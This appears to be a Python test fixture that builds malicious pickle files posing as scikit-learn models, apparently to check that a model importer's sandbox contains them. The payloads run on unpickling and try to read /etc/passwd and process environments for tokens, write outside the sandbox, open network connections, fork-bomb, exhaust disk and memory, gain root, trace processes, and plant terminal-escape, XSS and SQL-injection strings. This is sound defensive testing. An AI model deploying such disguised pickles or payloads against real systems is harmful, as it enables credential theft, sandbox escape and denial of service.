"""Pickles that are programs. Each tells in OUT/acted-NAME.txt what it managed to do; OUT is the importer's argument."""

import pickle

PROLOGUE = """
import os, sys
OUT = next((a for a in sys.argv[2:3]), '.')
def acted(what):
    with open(os.path.join(OUT, 'acted-{name}.txt'), 'a') as f:
        f.write(str(what)[:2000] + chr(10))
def attempt(act):
    try:
        acted(act())
    except BaseException:
        pass
"""

# By name: why it is there, and the program. One that uses attempt() tells its success itself.
ACTS = {
    "reads-passwd": ("reads /etc/passwd and /etc/hostname", """
for path in ('/etc/passwd', '/etc/hostname', '/root/.bashrc'):
    attempt(lambda: (path, open(path).read()))
"""),
    "reads-environment": ("looks for secrets in every environment that it can see", """
for pid in [p for p in os.listdir('/proc') if p.isdigit()] + ['self']:
    def look():
        text = open('/proc/%s/environ' % pid, 'rb').read().decode('utf-8', 'replace')
        assert 'SANDPIPER' in text or 'TOKEN' in text or 'SECRET' in text
        return text
    attempt(look)
"""),
    "writes-outside": ("writes beside its source, among the importers, below /usr and in a home", """
import sysconfig
for folder in (os.path.dirname(sys.argv[1]), os.path.dirname(sys.argv[0]), '/usr/lib', '/root',
               sysconfig.get_paths()['purelib']):
    def write():
        path = os.path.join(folder, 'hostile-was-here')
        open(path, 'w').write('x')
        return path
    attempt(write)
"""),
    "connects": ("calls a local port and an address outside", """
import socket
for address in (('127.0.0.1', {port}), ('192.0.2.1', 80)):
    attempt(lambda: (address, socket.create_connection(address, 2)))
"""),
    "listens": ("opens a port", """
import socket
def listen():
    s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(); s.settimeout(1)
    c = socket.create_connection(('10.255.255.254', s.getsockname()[1]), 1)
    return c
attempt(listen)
"""),
    "asks-for-names": ("resolves a host name", """
import socket
attempt(lambda: socket.gethostbyname('example.com'))
"""),
    "fork-bomb": ("starts 3,000 processes that wait", """
import time
children = 0
for i in range(3000):
    try:
        if os.fork() == 0:
            time.sleep(20); os._exit(0)
        children += 1
    except OSError:
        break
if children > 1000:
    acted(children)
"""),
    "leaves-a-daemon": ("leaves a process behind that writes later", """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(30)
        acted('still here')
    os._exit(0)
os._exit(0)
"""),
    "sleeps": ("sleeps for an hour", "import time\ntime.sleep(3600)\nacted('woke')\n"),
    "spins": ("computes for ever", "while True:\n    pass\n"),
    "eats-memory": ("takes memory until there is none", """
held = []
try:
    for i in range(64):
        held.append(bytearray(b'x') * (256 << 20))
    acted(len(held))
except MemoryError:
    held = []
"""),
    "exits-zero": ("ends at once with status 0", "os._exit(0)\n"),
    "kills-itself": ("ends by a signal", "os.kill(os.getpid(), 11)\n"),
    "prints-success": ("says that all went well and ends", """
print('{{"status": "ok", "model": "model.onnx"}}', flush=True)
os._exit(0)
"""),
    "floods-output": ("prints a gigabyte", """
line = b'\\x1b[2J<script>alert(1)</script>' * 4096
for i in range(8192):
    os.write(1, line)
os._exit(0)
"""),
    "fills-the-disk": ("writes a file of 16 GiB", """
written = 0
try:
    with open(os.path.join(OUT, 'big'), 'wb') as f:
        for i in range(16384):
            written += f.write(bytes(1 << 20))
    acted(written)
except OSError:
    pass
os._exit(0)
"""),
    "many-files": ("writes 50,000 files and folders inside of folders", """
try:
    for i in range(50000):
        open(os.path.join(OUT, 'f%d' % i), 'w').close()
except OSError:
    pass
deep = OUT
try:
    for i in range(1000):
        deep = os.path.join(deep, 'd'); os.mkdir(deep)
except OSError:
    pass
os._exit(0)
"""),
    "lies-with-garbage": ("leaves files that are no models", """
for name in ('model.onnx', 'cases.onnx', 'import.json'):
    open(os.path.join(OUT, name), 'wb').write(b'\\x00garbage\\xff' * 1000)
os._exit(0)
"""),
    "lies-with-empty-files": ("leaves empty files", """
for name in ('model.onnx', 'cases.onnx', 'import.json'):
    open(os.path.join(OUT, name), 'wb').close()
os._exit(0)
"""),
    "lies-with-a-model": ("leaves a model and cases that do not belong to each other", """
import onnx, numpy
from onnx import helper, numpy_helper
node = helper.make_node('Identity', ['features'], ['value'])
info = [helper.make_tensor_value_info(n, 1, ['N', 2]) for n in ('features', 'value')]
graph = helper.make_graph([node], 'g', info[:1], info[1:])
open(os.path.join(OUT, 'model.onnx'), 'wb').write(helper.make_model(graph).SerializeToString())
cases = helper.make_graph([], 'cases', [], [], [
    numpy_helper.from_array(numpy.zeros((4, 2), 'f4'), 'in:features'),
    numpy_helper.from_array(numpy.ones((4, 2), 'f4'), 'out:value')])
open(os.path.join(OUT, 'cases.onnx'), 'wb').write(helper.make_model(cases).SerializeToString())
open(os.path.join(OUT, 'import.json'), 'w').write('{{"framework": "\\\\u001b[2J<b>", "tools": {{}}}}')
os._exit(0)
"""),
    "lies-without-cases": ("leaves a model and no cases", """
from onnx import helper
node = helper.make_node('Identity', ['features'], ['value'])
info = [helper.make_tensor_value_info(n, 1, ['N', 2]) for n in ('features', 'value')]
model = helper.make_model(helper.make_graph([node], 'g', info[:1], info[1:]))
open(os.path.join(OUT, 'model.onnx'), 'wb').write(model.SerializeToString())
os._exit(0)
"""),
    "model-is-a-link": ("leaves links to files that the gateway may read", """
for name, target in (('model.onnx', '/etc/passwd'), ('cases.onnx', '/proc/self/environ'), ('refused.txt', '/etc/hostname')):
    os.symlink(target, os.path.join(OUT, name))
os._exit(0)
"""),
    "model-is-a-pipe": ("leaves pipes, on which a reader waits for ever", """
for name in ('model.onnx', 'cases.onnx', 'refused.txt', 'import.json'):
    os.mkfifo(os.path.join(OUT, name))
os._exit(0)
"""),
    "model-is-a-folder": ("leaves folders where files are read", """
for name in ('model.onnx', 'cases.onnx', 'refused.txt'):
    os.mkdir(os.path.join(OUT, name))
os._exit(0)
"""),
    "model-is-a-hole": ("leaves a file of 1 TiB that takes no room", """
for name in ('model.onnx', 'refused.txt'):
    try:
        with open(os.path.join(OUT, name), 'wb') as f:
            f.truncate(1 << 40)
    except OSError:
        pass
os._exit(0)
"""),
    "sentence-attacks": ("refuses with terminal codes, HTML, many lines and a megabyte", """
text = '\\x1b]0;owned\\x07\\x1b[2J<img src=x onerror=alert(1)>\\r\\n' * 20000
open(os.path.join(OUT, 'refused.txt'), 'w').write(text)
os._exit(0)
"""),
    "sentence-is-not-text": ("refuses with bytes that are no UTF-8", """
open(os.path.join(OUT, 'refused.txt'), 'wb').write(bytes(range(256)) * 10)
os._exit(0)
"""),
    "kills-its-parent": ("sends signals to its parent and to all it may", """
import signal
def kill():
    assert os.getppid() > 1
    os.kill(os.getppid(), signal.SIGTERM)
    return os.getppid()
attempt(kill)
"""),
    "becomes-root": ("asks for root, a new root folder and devices", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def root():
    os.setuid(0)
    open('/proc/sys/kernel/hostname', 'w').write('x')
    return os.getuid()
def mount():
    assert libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0
    return 'mounted'
def device():
    os.mknod('/tmp/disk', 0o060600, os.makedev(8, 0))
    return open('/tmp/disk', 'rb').read(1)
def namespace():
    assert libc.unshare(0x10000000) == 0
    return 'new user namespace'
for act in (root, mount, device, namespace):
    attempt(act)
"""),
    "changes-the-importer": ("replaces the importer's own functions and writes a model of its own", """
import job
def run(self, out):
    open(out / 'model.onnx', 'wb').write(b'mine')
    open(out / 'cases.onnx', 'wb').write(b'mine')
job.Import.write = run
"""),
    "traces": ("attaches to other processes", """
import ctypes
libc = ctypes.CDLL(None)
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) not in (os.getpid(), 1)][:20]:
    def trace():
        assert libc.ptrace(16, pid, 0, 0) == 0
        return pid
    attempt(trace)
"""),
    "raises-an-attack": ("raises an error whose text is an attack", """
raise ValueError('\\x1b[2J\\x1b]0;owned\\x07<script>alert(1)</script>' + chr(10) * 100 + "'; DROP TABLE devices;--" * 1000)
"""),
}


class Act:
    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        # One dict for globals and locals: else the program's functions do not see its imports.
        return exec, (self.code, {"__name__": "act"})


def write(folder):
    for name, (why, code) in ACTS.items():
        program = PROLOGUE.replace("{name}", name) + code.replace("{port}", str(folder.port)).replace(
            "{{", "{").replace("}}", "}")
        # It begins as a pickle of scikit-learn does, so that it is taken for one.
        content = pickle.dumps({"_sklearn_version": version(), "estimator": Act(program)})
        folder.add(f"act-{name}.pkl", "sklearn", "act", why, content)


def version():
    import sklearn

    return sklearn.__version__
